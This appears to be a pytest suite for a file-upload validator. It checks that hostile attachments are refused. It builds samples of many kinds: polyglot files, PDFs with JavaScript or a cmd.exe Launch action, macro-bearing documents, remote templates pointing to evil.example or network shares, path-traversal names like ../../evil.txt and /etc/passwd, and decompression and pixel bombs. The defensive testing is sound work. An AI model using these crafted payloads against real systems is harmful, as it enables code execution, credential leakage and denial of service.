"""The malicious-upload suite (security.md T-28, T-29). The rightful files all get through: test_checks.py."""

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter

from tests.attachments import samples
from tests.attachments.bombs import (
    lying_header,
    nested_archive,
    overlapping_archive,
    quoted_archive,
    understated_part,
    with_flags,
)
from tests.attachments.test_checks import refusal

HTML = b"<html><script>alert(1)</script></html>"


def docx_with(**parts: str | bytes) -> bytes:
    return samples.package({**samples.docx_parts(), **{name.replace("__", "/"): part for name, part in parts.items()}})


def docx_plus(name: str, content: str | bytes = b"x") -> bytes:
    return samples.package({**samples.docx_parts(), name: content})


def protected_pdf() -> bytes:
    writer, out = PdfWriter(io.BytesIO(samples.pdf())), io.BytesIO()
    writer.encrypt("hemligt", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def rels(target: str, kind: str = "attachedTemplate") -> str:
    relation = (
        f'<Relationship Id="r9" Type="{samples.OFFICE_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    )
    return f'<Relationships xmlns="{samples.RELATIONS}">{relation}</Relationships>'


POLYGLOTS = {
    "page called picture": ("foto.jpg", b"\xff\xd8\xff\xe0" + HTML, "unreadable"),
    "page behind magic bytes": ("bild.gif", b"GIF89a/*" + HTML, "content_mismatch"),
    "page in a picture's comment": ("foto.jpg", samples.image("JPEG", comment=HTML), "hidden_content"),
    "page behind a picture": ("bild.png", samples.png() + HTML, "hidden_content"),
    "archive behind a picture": ("foto.jpg", samples.jpeg() + samples.docx(), "hidden_content"),
    "gifar": ("bild.gif", samples.gif() + samples.package({"Evil.class": b"\xca\xfe\xba\xbe"}), "hidden_content"),
    "picture called another": ("bild.png", samples.jpeg(), "content_mismatch"),
    "vector page called picture": ("bild.png", b"<svg onload='alert(1)'/>", "content_mismatch"),
    "page before a pdf": ("intyg.pdf", HTML + samples.pdf(), "hidden_content"),
    "page within a pdf's start": ("intyg.pdf", b"%PDF-1.7\n" + HTML + samples.pdf(), "hidden_content"),
    "archive behind a pdf": ("intyg.pdf", samples.pdf() + samples.docx(), "hidden_content"),
    "page behind a pdf": ("intyg.pdf", samples.pdf() + HTML, "hidden_content"),
    "page called text": ("anteckning.txt", HTML, "hidden_content"),
    "program called text": ("anteckning.txt", b"MZ\x90\0\3", "content_mismatch"),
    "program called document": ("brev.docx", b"MZ\x90\0\3" + bytes(100), "content_mismatch"),
    "program before a document": ("brev.docx", b"MZ" + samples.docx(), "content_mismatch"),
    "program behind a document": ("brev.docx", samples.docx() + b"MZ", "hidden_content"),
    "spreadsheet called document": ("brev.docx", samples.xlsx(), "content_mismatch"),
    "document called spreadsheet": ("kalkyl.ods", samples.odt(), "content_mismatch"),
    "plain archive called document": ("brev.docx", samples.package({"a.txt": "hej"}), "content_mismatch"),
    "plain archive called opendocument": ("brev.odt", samples.package({"a.txt": "hej"}), "content_mismatch"),
}
ACTIVE = {
    "script in pdf": (
        "a.pdf",
        samples.pdf_with("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "pdf_script",
    ),
    "script by another spelling": (
        "a.pdf",
        samples.pdf_with("/OpenAction << /S /J#61vaScript /#4AS (1) >>"),
        "pdf_script",
    ),
    "script in an object of its own": ("a.pdf", samples.pdf_with("", "<< /S /JavaScript /JS (1) >>"), "pdf_script"),
    "program start in pdf": ("a.pdf", samples.pdf_with("/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf_script"),
    "file in pdf": (
        "a.pdf",
        samples.pdf_with("", "<< /Type /Filespec /F (x.exe) /EF << /F 4 0 R >> >>"),
        "pdf_embedded",
    ),
    "password on pdf": ("a.pdf", protected_pdf(), "encrypted"),
    "macros renamed": ("brev.docx", docx_plus("word/vbaProject.bin"), "macros"),
    "macros by content type": (
        "brev.docx",
        docx_plus("[Content_Types].xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "macros in opendocument": (
        "brev.odt",
        samples.package({**samples.odf_parts("text"), "Basic/Standard/Module1.xml": "Sub Main"}),
        "macros",
    ),
    "controls in document": ("brev.docx", docx_plus("word/activeX/activeX1.bin"), "macros"),
    "password on document": ("brev.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "encrypted"),
    "password on opendocument": (
        "brev.odt",
        samples.package({**samples.odf_parts("text"), "META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "encrypted",
    ),
    "password on archive": ("brev.docx", with_flags(samples.docx(), 0x1), "encrypted"),
    "template from elsewhere": (
        "brev.docx",
        docx_plus("word/_rels/settings.xml.rels", rels("https://evil.example/t.dotm")),
        "external",
    ),
    "template from elsewhere, disguised": (
        "brev.docx",
        docx_plus("word/_rels/settings.xml.rels", rels("&#104;ttps://evil.example/t.dotm")),
        "external",
    ),
    "entities": ("brev.docx", docx_plus("word/x.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "hidden_content"),
    "entities in utf-16": ("brev.docx", docx_plus("word/x.xml", "<!DOCTYPE a>".encode("utf-16")), "hidden_content"),
    "program within": ("brev.docx", docx_plus("word/media/image1.png", b"MZ\x90\0"), "nested"),
    "old object within": ("brev.docx", docx_plus("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "nested"),
}
SETTINGS_RELS = "word/_rels/settings.xml.rels"
FETCHING = {
    "target before type, and a bracket": docx_plus(
        SETTINGS_RELS,
        f'<Relationships><Relationship Target="https://e.example/t.dotm?a>b" Id="r9" '
        f'Type="{samples.OFFICE_RELATIONS}/attachedTemplate" TargetMode="External"/></Relationships>',
    ),
    "utf-16": docx_plus(SETTINGS_RELS, rels("https://e.example/t.dotm").encode("utf-16")),
    "capital name": docx_plus("word/_rels/settings.xml.RELS", rels("https://e.example/t.dotm")),
    "strict": docx_plus(
        SETTINGS_RELS, rels(" HTTPS://e.example/t.dotm ").replace(samples.OFFICE_RELATIONS, "http://purl.oclc.org/x")
    ),
    "server by file": docx_plus(SETTINGS_RELS, rels(r"file://\\server\share\t.dotm")),
    "server by file, slashes": docx_plus(SETTINGS_RELS, rels("file://server/share/t.dotm")),
    "server by name": docx_plus(SETTINGS_RELS, rels(r"\\server\share\t.dotm", "oleObject")),
    "server by slashes": docx_plus(SETTINGS_RELS, rels("//server/share/t.html", "frame")),
}
INDIRECT = {
    "command by reference": ("/OpenAction << /S 5 0 R /F (cmd.exe) >>", "/Launch"),
    "picture that plays, by reference": ("", "/RichMedia", "<< /Type /Annot /Subtype 5 0 R >>"),
}
NAMES_WITHIN = ["../../evil.txt", "/etc/passwd", "word/../../x", "C:x", "a\\b", "word//x", "a\nb", "WORD/document.xml"]
BOMBS = {
    "flat": ("brev.docx", docx_plus("word/x.xml", bytes(20 * 2**20)), "unpacks_too_large"),
    "too much in all": (
        "kalkyl.xlsx",
        samples.package({**samples.xlsx_parts(), **{f"xl/{n}": bytes(2**20) for n in range(301)}}),
        "unpacks_too_large",
    ),
    "too many parts": ("brev.docx", samples.package({str(n): b"" for n in range(5001)}), "too_many_parts"),
    "nested": ("brev.docx", docx_plus("word/media/image1.png", nested_archive()), "nested"),
    "nested within an embedded sheet": (
        "brev.docx",
        docx_plus("word/embeddings/a.xlsx", samples.package({**samples.xlsx_parts(), "b.bin": nested_archive()})),
        "nested",
    ),
    "overlapping": ("brev.docx", overlapping_archive(), "hidden_content"),
    "quoted": ("brev.docx", quoted_archive(), "hidden_content"),
    "more than it says": ("brev.docx", understated_part(), "hidden_content"),
    "two truths": ("brev.docx", lying_header(samples.docx()), "hidden_content"),
}


@pytest.mark.parametrize("case", POLYGLOTS)
def test_two_files_in_one_are_refused(case: str) -> None:
    name, content, expected = POLYGLOTS[case]

    assert refusal(content, name) == expected


@pytest.mark.parametrize("case", ACTIVE)
def test_active_or_locked_content_is_refused(case: str) -> None:
    name, content, expected = ACTIVE[case]

    assert refusal(content, name) == expected


@pytest.mark.parametrize("case", FETCHING)
def test_document_that_fetches_is_refused_however_written(case: str) -> None:
    assert refusal(FETCHING[case], "brev.docx") == "external"


@pytest.mark.parametrize("target", [r"file:///C:\Mallar\Brev.dotm", "Brev.dotm", "/word/Brev.dotm", r"D:\Brev.dotm"])
def test_template_on_ones_own_disk_is_taken(target: str) -> None:
    assert refusal(docx_plus(SETTINGS_RELS, rels(target)), "brev.docx") == ""


def test_relations_that_are_no_xml_are_refused() -> None:
    assert refusal(docx_plus(SETTINGS_RELS, rels("a")[:-3]), "brev.docx") == "unreadable"


@pytest.mark.parametrize("case", INDIRECT)
def test_command_behind_a_reference_is_refused(case: str) -> None:
    assert refusal(samples.pdf_with(*INDIRECT[case]), "a.pdf") == "pdf_script"


def test_embedded_file_behind_a_reference_is_refused() -> None:
    stream = "<< /Type 5 0 R /Length 1 >>\nstream\nx\nendstream"

    assert refusal(samples.pdf_with("", "/EmbeddedFile", stream), "a.pdf") == "pdf_embedded"


@pytest.mark.parametrize("objects", [("5 0 R",), ("6 0 R", "/Launch")])
def test_reference_to_a_reference_is_refused(objects: tuple[str, ...]) -> None:
    assert refusal(samples.pdf_with("/OpenAction << /S 5 0 R >>", *objects), "a.pdf") == "unreadable"


@pytest.mark.parametrize("case", BOMBS)
def test_bomb_is_refused_unexploded(case: str) -> None:
    name, content, expected = BOMBS[case]

    assert refusal(content, name) == expected


@pytest.mark.parametrize("name", NAMES_WITHIN)
def test_odd_name_within_an_archive_is_refused(name: str) -> None:
    assert refusal(docx_plus(name), "brev.docx") == "hidden_content"


def test_same_name_twice_within_an_archive_is_refused() -> None:
    out = io.BytesIO(samples.docx())
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<other/>")

    assert refusal(out.getvalue(), "brev.docx") == "hidden_content"


def png_saying(width: int, height: int) -> bytes:
    """A few bytes that claim to be a picture of any size."""
    header = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    return (
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + samples.png()[33:]
    )


@pytest.mark.parametrize("size", [(100_000, 100_000), (60_000, 10), (8_000, 8_000)])
def test_pixel_bomb_is_refused_undecoded(size: tuple[int, int]) -> None:
    assert refusal(png_saying(*size), "bild.png") == "image_too_large"


def test_picture_as_large_as_telephones_take_is_taken() -> None:
    out = io.BytesIO()
    Image.new("RGB", (8_160, 6_120), "teal").save(out, "JPEG")

    assert refusal(out.getvalue(), "foto.jpg") == ""


def test_endless_animation_is_refused() -> None:
    assert refusal(samples.gif(frames=250), "bild.gif") == "too_many_frames"
    assert refusal(samples.gif(frames=20), "bild.gif") == ""


@pytest.mark.parametrize("name", samples.RIGHTFUL)
def test_half_a_file_is_refused(name: str) -> None:
    whole = samples.RIGHTFUL[name]()

    assert name.endswith("txt") or refusal(whole[: len(whole) * 2 // 3], name) in ("unreadable", "content_mismatch")


@pytest.mark.parametrize("name", samples.RIGHTFUL)
def test_noise_is_refused(name: str) -> None:
    assert refusal(bytes(range(256)) * 40, name) in ("unreadable", "content_mismatch")


@pytest.mark.parametrize(
    "name", ["brev.docm", "x.exe", "bild.svg", "a.html", "brev", "intyg.pdf.js", "lista.csv", ".pdf "]
)
def test_other_kinds_are_refused_by_name(name: str) -> None:
    assert refusal(samples.pdf(), name) == "kind_not_allowed"
